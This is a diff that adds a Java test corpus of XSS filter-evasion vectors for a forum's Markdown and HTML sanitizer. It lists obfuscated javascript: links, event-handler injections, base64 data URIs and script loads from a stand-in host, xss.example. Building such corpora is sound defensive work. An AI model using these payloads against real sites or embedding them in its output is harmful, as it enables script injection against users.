@@ -1,0 +1,70 @@
+package dk.samvirke.forum;
+
+import java.util.List;
+
+/** Attack vectors in the style of the OWASP XSS filter evasion cheat sheet, as Markdown and as raw HTML. */
+final class XssCorpus {
+
+    private XssCorpus() {
+    }
+
+    static final List<String> VECTORS = List.of(
+            "<script>alert(1)</script>",
+            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+            "<scr<script>ipt>alert(1)</scr</script>ipt>",
+            "[click](javascript:alert(1))",
+            "[click](JaVaScRiPt:alert(1))",
+            "[click](javascript&#58;alert(1))",
+            "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+            "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
+            "[click](jav&#x09;ascript:alert(1))",
+            "[click]( javascript:alert(1))",
+            "[click](<javascript:alert(1)>)",
+            "[click](vbscript:msgbox(1))",
+            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+            "[ref][x]\n\n[x]: javascript:alert(1)",
+            "[ref]\n\n[ref]: javascript:alert(1) \"title\"",
+            "<javascript:alert(1)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+            "<a href=\"jav\tascript:alert(1)\">x</a>",
+            "<a href=\"&#14;  javascript:alert(1)\">x</a>",
+            "<a href=\"java\u0000script:alert(1)\">x</a>",
+            "<img src=x onerror=alert(1)>",
+            "<IMG SRC=\"javascript:alert('XSS');\">",
+            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
+            "![x](javascript:alert(1))",
+            "![x\" onerror=\"alert(1)](https://example.org/a.png)",
+            "![x](https://example.org/a.png\" onerror=\"alert(1))",
+            "<svg/onload=alert(1)>",
+            "<svg><script>alert(1)</script></svg>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "<iframe src=\"javascript:alert(1)\"></iframe>",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+            "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+            "<body onload=alert(1)>",
+            "<div style=\"background:url(javascript:alert(1))\">x</div>",
+            "<style>@import 'https://xss.example/x.css';</style>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+            "<base href=\"javascript:alert(1)//\">",
+            "<form action=\"javascript:alert(1)\"><button>x</button></form>",
+            "<details open ontoggle=alert(1)>",
+            "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
+            "<a href=\"https://example.org\" target=\"_blank\">x</a>",
+            "`<script>alert(1)</script>`",
+            "```html\n<script>alert(1)</script>\n```",
+            "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
+            "<<script>script>alert(1)<</script>/script>",
+            "<!--<script>alert(1)</script>-->",
+            "<![CDATA[<script>alert(1)</script>]]>",
+            "＜script＞alert(1)＜/script＞",
+            "[click](java\u200bscript:alert(1))",
+            "[click](\u2028javascript:alert(1))",
+            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
+            "www.example.org/\"onmouseover=\"alert(1)",
+            "<https://example.org/\"onmouseover=\"alert(1)>",
+            "<input autofocus onfocus=alert(1)>",
+            "<video><source onerror=\"alert(1)\"></video>",
+            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+            "[x](//xss.example/%0aalert(1))");
+}
